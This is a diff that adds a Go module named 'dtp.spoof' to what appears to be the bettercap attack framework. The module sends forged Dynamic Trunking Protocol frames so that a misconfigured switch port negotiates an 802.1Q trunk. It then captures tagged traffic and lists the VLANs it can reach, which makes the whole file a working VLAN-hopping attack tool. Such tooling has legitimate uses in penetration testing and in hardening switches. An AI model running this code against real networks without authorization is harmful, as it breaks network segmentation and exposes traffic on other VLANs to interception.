@@ -0,0 +1,208 @@
+package dtp_spoof
+
+import (
+	"fmt"
+	"sort"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/pcap"
+)
+
+type vlanInfo struct {
+	ID       uint16
+	Frames   uint64
+	LastSeen time.Time
+}
+
+type DTPSpoofer struct {
+	session.SessionModule
+	handle        *pcap.Handle
+	domain        string
+	period        time.Duration
+	vlans         map[uint16]*vlanInfo
+	vlansLock     *sync.Mutex
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewDTPSpoofer(s *session.Session) *DTPSpoofer {
+	mod := &DTPSpoofer{
+		SessionModule: session.NewSessionModule("dtp.spoof", s),
+		vlans:         make(map[uint16]*vlanInfo),
+		vlansLock:     &sync.Mutex{},
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.AddParam(session.NewStringParameter("dtp.spoof.domain",
+		"",
+		"",
+		"VTP domain name to advertise in DTP frames."))
+
+	mod.AddParam(session.NewIntParameter("dtp.spoof.period",
+		"30",
+		"Period in seconds between DTP desirable frames."))
+
+	mod.AddHandler(session.NewModuleHandler("dtp.spoof on", "",
+		"Start negotiating an 802.1Q trunk with the switch port and enumerate reachable VLANs.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dtp.spoof off", "",
+		"Stop DTP negotiation.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dtp.vlans", "",
+		"Show the VLANs observed on the trunk.",
+		func(args []string) error {
+			return mod.showVLANs()
+		}))
+
+	return mod
+}
+
+func (mod DTPSpoofer) Name() string {
+	return "dtp.spoof"
+}
+
+func (mod DTPSpoofer) Description() string {
+	return "Negotiates trunking with misconfigured switch ports via DTP in order to reach other VLANs."
+}
+
+func (mod DTPSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *DTPSpoofer) Configure() error {
+	var err error
+	var period int
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted
+	} else if err, mod.domain = mod.StringParam("dtp.spoof.domain"); err != nil {
+		return err
+	} else if err, period = mod.IntParam("dtp.spoof.period"); err != nil {
+		return err
+	} else if period <= 0 {
+		return fmt.Errorf("dtp.spoof.period must be greater than 0")
+	} else if mod.handle, err = pcap.OpenLive(mod.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		return err
+	} else if err = mod.handle.SetBPFFilter("vlan"); err != nil {
+		mod.handle.Close()
+		return err
+	}
+
+	mod.period = time.Duration(period) * time.Second
+
+	return nil
+}
+
+func (mod *DTPSpoofer) sendProbe() {
+	if err, raw := packets.NewDTPProbe(mod.Session.Interface.HW, mod.domain, packets.DTPStatusDesirable); err != nil {
+		mod.Error("error creating DTP frame: %s", err)
+	} else if err = mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("error sending DTP frame: %s", err)
+	} else {
+		mod.Debug("sent %d bytes of DTP frame", len(raw))
+	}
+}
+
+func (mod *DTPSpoofer) onPacket(pkt gopacket.Packet) {
+	id := packets.Dot1QGetVLAN(pkt)
+	if id == 0 {
+		return
+	}
+
+	mod.vlansLock.Lock()
+	defer mod.vlansLock.Unlock()
+
+	if vlan, found := mod.vlans[id]; found {
+		vlan.Frames++
+		vlan.LastSeen = time.Now()
+	} else {
+		if len(mod.vlans) == 0 {
+			mod.Info("trunk negotiated, receiving tagged traffic")
+		}
+		mod.vlans[id] = &vlanInfo{
+			ID:       id,
+			Frames:   1,
+			LastSeen: time.Now(),
+		}
+		mod.Session.Events.Add("dtp.vlan.new", id)
+	}
+}
+
+func (mod *DTPSpoofer) showVLANs() error {
+	mod.vlansLock.Lock()
+	defer mod.vlansLock.Unlock()
+
+	if len(mod.vlans) == 0 {
+		return fmt.Errorf("no VLANs observed yet")
+	}
+
+	ids := make([]int, 0)
+	for id := range mod.vlans {
+		ids = append(ids, int(id))
+	}
+	sort.Ints(ids)
+
+	rows := make([][]string, 0)
+	for _, id := range ids {
+		vlan := mod.vlans[uint16(id)]
+		rows = append(rows, []string{
+			fmt.Sprintf("%d", vlan.ID),
+			fmt.Sprintf("%d", vlan.Frames),
+			vlan.LastSeen.Format("15:04:05"),
+		})
+	}
+
+	mod.Session.Table([]string{"VLAN", "Frames", "Seen"}, rows)
+	mod.Session.Println()
+
+	return nil
+}
+
+func (mod *DTPSpoofer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		mod.Info("negotiating trunk every %s", mod.period)
+
+		go func() {
+			for mod.Running() {
+				mod.sendProbe()
+				time.Sleep(mod.period)
+			}
+		}()
+
+		src := gopacket.NewPacketSource(mod.handle, mod.handle.LinkType())
+		mod.pktSourceChan = src.Packets()
+		for packet := range mod.pktSourceChan {
+			if !mod.Running() {
+				break
+			}
+
+			mod.onPacket(packet)
+		}
+	})
+}
+
+func (mod *DTPSpoofer) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.pktSourceChan <- nil
+		mod.handle.Close()
+		mod.waitGroup.Wait()
+	})
+}